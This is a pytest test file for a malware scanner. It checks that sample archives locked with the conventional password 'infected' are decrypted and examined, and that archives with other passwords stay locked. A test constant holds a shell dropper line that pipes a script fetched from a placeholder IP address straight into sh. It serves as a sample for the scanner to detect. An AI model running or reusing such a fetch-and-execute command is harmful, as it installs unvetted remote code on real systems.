"""Zips locked with the password agreed for samples are opened and examined.

Samples travel locked with ``infected``, as MalwareBazaar and VirusTotal hand them out
(oletools 0.60.2's sdist locks its malicious test documents with a password of its own,
``infected-test``: those stay locked, and its exam incomplete). The archives here are written
by Info-ZIP's ``zip -P`` (traditional PKWARE encryption), seekable and streamed (sizes after
the data)."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from finalexam.config import Config
from finalexam.exam import run_exam
from finalexam.model import ExamStatus, IssueKind, Report
from finalexam.unpack.zipcrypto import decrypt

ZIP = shutil.which("zip")
needs_zip = pytest.mark.skipif(ZIP is None, reason="zip not installed (.ci/system-packages)")

# a shell dropper: the behaviour rules must read it, so the member must have been decrypted
DROPPER = "#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | sh\n"


def _locked(tmp_path: Path, password: str, streamed: bool = False) -> Path:
    assert ZIP is not None
    work = tmp_path / f"work-{password}-{streamed}"
    work.mkdir()
    (work / "install.sh").write_text(DROPPER)
    target = tmp_path / f"sample-{password}-{'streamed' if streamed else 'seekable'}.zip"
    if streamed:  # to a pipe: zip cannot seek back, so sizes and CRC follow the data
        with target.open("wb") as out:
            subprocess.run(
                [ZIP, "-q", "-P", password, "-", "install.sh"], cwd=work, stdout=out, check=True
            )
    else:
        subprocess.run([ZIP, "-q", "-P", password, str(target), "install.sh"], cwd=work, check=True)
    return target


def _where(report: Report, rule_prefix: str) -> set[str]:
    return {
        str(f.location) for f in report.findings if f.rule_id.startswith(rule_prefix) and f.location
    }


@needs_zip
@pytest.mark.parametrize("streamed", [False, True])
def test_a_sample_locked_with_the_agreed_password_is_examined(
    tmp_path: Path, streamed: bool
) -> None:
    archive = _locked(tmp_path, "infected", streamed)
    report = run_exam(archive, Config(disable=("vulnerabilities",)))
    assert any(where.endswith("!/install.sh") for where in _where(report, "thr-")), report.findings
    assert not report.gaps
    notes = [i.message for i in report.issues if "sample password" in i.message]
    assert notes and "'infected'" in notes[0]
    assert report.complete  # the lock no longer leaves the exam incomplete


@needs_zip
def test_any_other_password_stays_locked_and_the_exam_incomplete(tmp_path: Path) -> None:
    archive = _locked(tmp_path, "Kq7vLzT9")
    report = run_exam(archive, Config(disable=("vulnerabilities",)))
    assert not _where(report, "thr-")
    assert [g.kind for g in report.gaps] == [IssueKind.ENCRYPTED]
    assert report.status is ExamStatus.INCOMPLETE


def test_the_header_check_byte_rejects_a_wrong_password() -> None:
    """APPNOTE 6.1.6: the 12th decrypted header byte is the CRC's high byte."""
    assert decrypt(b"\0" * 11, b"infected", 0) is None  # shorter than the header
    wrong = [decrypt(bytes(range(40)), b"infected", check) for check in range(256)]
    assert sum(result is not None for result in wrong) == 1  # one check byte in 256 passes
